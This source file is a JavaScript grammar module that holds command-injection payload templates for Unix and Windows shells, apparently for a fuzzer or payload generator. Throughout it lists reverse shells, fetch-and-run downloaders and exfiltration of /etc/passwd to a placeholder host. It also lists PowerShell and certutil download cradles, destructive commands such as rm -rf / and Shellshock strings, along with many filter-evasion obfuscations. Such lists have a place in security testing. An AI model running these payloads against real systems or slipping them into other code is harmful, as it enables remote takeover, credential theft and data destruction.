/** Commands of Unix and Windows shells, separated, substituted, disguised. */
import { lines } from './grammar.mjs'

export const SHELL = {
  brief: [
    'id',
    'ls',
    'pwd',
    'whoami',
    'uname -a',
    'ls -la',
    'ls /',
    'cat /etc/passwd',
    'dir',
    'net user',
    'tasklist',
    'ipconfig /all',
    'ver',
    'env',
    'ps aux',
    'w',
    'hostname',
    'ifconfig',
    'sleep §n§',
    'timeout /t §n§',
    'ping -c §n§ §host§',
    'find / -name "*.conf"',
    'reg query HKLM',
    'set',
    'printenv',
    'netstat -an',
    'df -h',
    'last',
    'id;uname -a',
    '/usr/bin/id',
    '/bin/ls -al',
    'type c:\\boot.ini',
    'echo §rnd§',
    'nslookup §host§',
  ],
  cmdi: lines`
    §sep§§brief§
    §sep§ §brief§
    §sep§ §brief§ # §rnd§
    §val§§sep§§brief§
    §val§;§brief§;
    \`§brief§\`
    \$(§brief§)
    |§brief§|
    &§brief§&
    ;§brief§\${IFS}-a
    ;§brief§\$IFS\$9/etc/passwd
    §sep§ java -jar §rnd§.jar §host§ §num§
    §sep§ xterm -display §host§:1
    §sep§ socat exec:'bash -li' tcp:§host§:§num§
    () { §rnd§; }; §brief§
    §val§§sep§§cmd§
    §val§§sep§§cmd§
    §val§§sep§ §cmd§
    §val§ §sep§ §cmd§ §sep§
    §val§§sep§§cmd§§sep§
    §val§§sep§§cmd§§ctail§
    §sep§§cmd§
    §sep§ §cmd§
    $(§cmd§)
    \`§cmd§\`
    §val§$(§cmd§)
    §val§\`§cmd§\`
    §val§"§sep§§cmd§§sep§"
    §val§'§sep§§cmd§§sep§'
    §val§"§sep§§cmd§#
    §val§';§cmd§;'
    §cmd§
    /bin/§sh§ -c "§cmd§"
    §sh§ -i >& /dev/tcp/§host§/4444 0>&1
    bash -c {echo,§b64§}|{base64,-d}|{bash,-i}
    § obf§
    §obf§
    §val§§sep§§obf§
    §sep§§obf§
    () { :;}; §cmd§
    () { ignored;};/bin/bash -c '§cmd§'
    §val§ & §wincmd§
    §val§|§wincmd§
    & §wincmd§ &
    §wincmd§
    §val§ && §wincmd§
    §val§%0a§cmd§
    §val§%0a§cmd§%0a
    §val§\n§cmd§\n
    | §cmd§ | §cmd§
    ;§cmd§;§cmd§
    echo §b64§|base64 -d|sh
    curl http://§host§/§rnd§.sh | sh
    wget http://§host§/§rnd§ -O /tmp/§rnd§; chmod +x /tmp/§rnd§; /tmp/§rnd§
    §val§;nslookup §rnd§.§host§
    §val§&ping -n §nn§ 127.0.0.1&
    nc -e /bin/sh §host§ §num§
    python -c 'import socket,subprocess,os;s=socket.socket();s.connect(("§host§",4444))'
    perl -e 'use Socket;$i="§host§";exec("/bin/sh -i");'
    -o§rnd§ -exec §cmd§ ;
    --output=/var/www/§rnd§.php
    -oProxyCommand="§cmd§"
    §val§>/tmp/§rnd§
    <(§cmd§)
    >(§cmd§)
    {§sh§,-c,§rnd§}
    §val§ ||§cmd§
    §val§; if [ $(whoami|cut -c 1) == §rnd§ ]; then sleep §n§; fi
    for i in $(§cmd§); do §cmd§; done
    for /f %i in ('whoami') do §wincmd§
    if exist c:\\windows §wincmd§
    IF "%§rnd§%"=="§rnd§" (§wincmd§)
    IF /I NOT §rnd§==§rnd§ §wincmd§
    FOR /F "delims=" %%G IN ('§wincmd§') DO §wincmd§
    FOR /D %%a IN (§rnd§) DO §wincmd§
    IF %ERRORLEVEL% NEQ 0 §wincmd§
    time §cmd§
    ;§cmd§ --version
    alias §rnd§='§cmd§'
    trap '§cmd§' EXIT
    eval "§cmd§"
    exec §cmd§
    export PATH=/tmp; §cmd§
    §envp§ §cmd§
    §val§ $(sleep §n§)
    nohup §cmd§ &
    xargs §cmd§
    time §cmd§ | §sh§
    §cmd§ <<< §rnd§
  `.map((line) => line.replace('§ obf§', '§obf§')),
  sep: [
    ';',
    '|',
    '||',
    '&',
    '&&',
    '%0a',
    '\n',
    '; ',
    ' | ',
    ' && ',
    '%3b',
    '%7c',
    '%26',
    '|&',
    '";',
    "';",
    '\r\n',
    '%26%26',
    ';;',
  ],
  cmd: [
    'id',
    'whoami',
    'ls',
    'ls -la',
    'ls -l /',
    'cat /etc/passwd',
    'cat /etc/shadow',
    'uname -a',
    'pwd',
    'ps aux',
    'netstat -an',
    'ifconfig',
    'ping -c §n§ §host§',
    'ping -c 10 127.0.0.1',
    'sleep §n§',
    'curl http://§host§/',
    'curl -d @/etc/passwd http://§host§',
    'wget http://§host§/§rnd§',
    'nc §host§ §num§ -e /bin/sh',
    'nslookup §host§',
    'dig §rnd§.§host§',
    'env',
    'printenv',
    'echo §rnd§',
    'echo §num§$((§nn§+§nn§))',
    'expr §num§ + §num§',
    'rm -rf /',
    'rm -rf /tmp/§rnd§',
    'touch /tmp/§rnd§',
    'chmod 777 /tmp/§rnd§',
    'cp /etc/passwd /tmp',
    'mail §rnd§@§host§ < /etc/passwd',
    'cat /proc/version',
    'head -1 /etc/passwd',
    'tail /var/log/syslog',
    'grep root /etc/passwd',
    'find / -perm -4000',
    'w',
    'who',
    'last',
    'lastlog',
    'hostname',
    'date',
    'df -h',
    'mount',
    'crontab -l',
    'history',
    'dmesg',
    'arp -a',
    'route',
    'iptables -L',
    'kill -9 1',
    'reboot',
    'shutdown -h now',
    'python3 -c "import os;os.system(\'id\')"',
    'php -r "phpinfo();"',
    "perl -e 'print 1'",
    'ruby -e "puts 1"',
    'node -e "1"',
    '/bin/cat /etc/passwd',
    '/usr/bin/id',
    '/bin/ls -al',
    '/bin/uname -a',
    '/sbin/ifconfig',
    'tar cf - /etc',
    'base64 /etc/passwd',
    'xxd /etc/passwd',
    'strings /bin/ls',
    'awk -f /etc/passwd',
    'sed -n p /etc/passwd',
    'vi /etc/passwd',
    'more /etc/passwd',
    'less /etc/hosts',
    'nl /etc/passwd',
    'tac /etc/passwd',
    'sudo -l',
    'su -',
    'useradd §rnd§',
    'docker ps',
    'kubectl get secrets',
    'git clone http://§host§/x',
    'ssh §rnd§@§host§',
    'scp /etc/passwd §host§:',
    'telnet §host§',
    'busybox nc §host§ 1',
    'openssl s_client -connect §host§:443',
    'socat tcp:§host§:1 exec:sh',
    'strace id',
    'lsof -i',
    'tcpdump -i any',
    'apt install nmap',
    'nmap §host§',
    'lua -e "os.execute(\'id\')"',
    'gcc x.c',
    'sh',
    'bash',
    'zsh',
    'ksh',
    'irb',
    'psql',
    'mysql -e "show databases"',
  ],
  ctail: [
    '',
    ' #',
    ' --',
    ';',
    '&',
    '|',
    ' > /dev/null',
    ' 2>&1',
    '%00',
    "'",
    '"',
    ' ;#',
    '>/tmp/§rnd§',
    ' && exit',
    '\n',
  ],
  sh: ['sh', 'bash', 'ksh', 'zsh', 'dash', 'csh'],
  envp: ['FOO=1', 'LD_PRELOAD=/tmp/x.so', 'PATH=.', 'IFS=,'],
  obf: [
    'cat${IFS}/etc/passwd',
    'cat$IFS/etc/passwd',
    "c'a't /etc/passwd",
    'c"a"t /etc/passwd',
    'c\\at /etc/passwd',
    "w'h'o'a'm'i",
    'wh$@oami',
    'who$()ami',
    'wh``oami',
    '/???/??t /???/p??s??',
    '/bin/c?t /etc/passw?',
    'cat /e*/p*',
    '{cat,/etc/passwd}',
    'cat</etc/passwd',
    '$(rev<<<imaohw)',
    'echo${IFS}§rnd§',
    "X=$'cat\\x20/etc/passwd'&&$X",
    '$0<<<$(id)',
    'i\\d',
    'u\\n\\a\\m\\e',
    '$(printf "id")',
    'ca$*t /etc/passwd',
    "l''s",
    "n$'c' -e",
    '${PATH:0:1}',
    'cat $(echo /etc/passwd)',
    'bash<<<$(base64 -d<<<§b64§)',
    'w$1hoami',
    'ping$IFS-c${IFS}1${IFS}§host§',
    'sleep${IFS}§n§',
    "/b'i'n/c'a't",
    'cat /etc//passwd',
    'who^ami',
    'pow^ershell',
    'p""ing 127.0.0.1',
    "ec'h'o §rnd§",
    'a=id;$a',
    'eval $(echo aWQ=|base64 -d)',
    '$SHELL -c id',
    'python${IFS}-c${IFS}1',
  ],
  wincmd: [
    'dir',
    'dir c:\\',
    'type c:\\windows\\win.ini',
    'type %SYSTEMROOT%\\win.ini',
    'ipconfig /all',
    'net user',
    'net user §rnd§ §rnd§ /add',
    'whoami',
    'ver',
    'systeminfo',
    'tasklist',
    'ping -n §n§ 127.0.0.1',
    'cmd /c dir',
    'cmd.exe /c whoami',
    'powershell -c whoami',
    'powershell -enc §b64§',
    "powershell IEX(New-Object Net.WebClient).DownloadString('http://§host§/x.ps1')",
    'certutil -urlcache -f http://§host§/x.exe x.exe',
    'bitsadmin /transfer x http://§host§/x',
    'mshta http://§host§/x.hta',
    'rundll32 javascript:"',
    'regsvr32 /s /u /i:http://§host§/x scrobj.dll',
    'wmic process list',
    'del /f /q c:\\temp\\§rnd§',
    'copy c:\\boot.ini c:\\inetpub',
    'set',
    'echo %USERNAME%',
    'nslookup §host§',
    'start calc.exe',
    'timeout §n§',
    'Get-Process',
    'Invoke-Expression §rnd§',
    'Start-Process cmd',
    'Get-Content c:\\boot.ini',
    'reg query HKLM',
    'schtasks /create',
    'FOR %G IN (a b) DO cmd',
    'for /L %i in (1,1,§n§) do ping §host§',
    'if "%OS%"=="Windows_NT" echo §rnd§',
    'IF EXIST §rnd§.txt type §rnd§.txt',
  ],
}
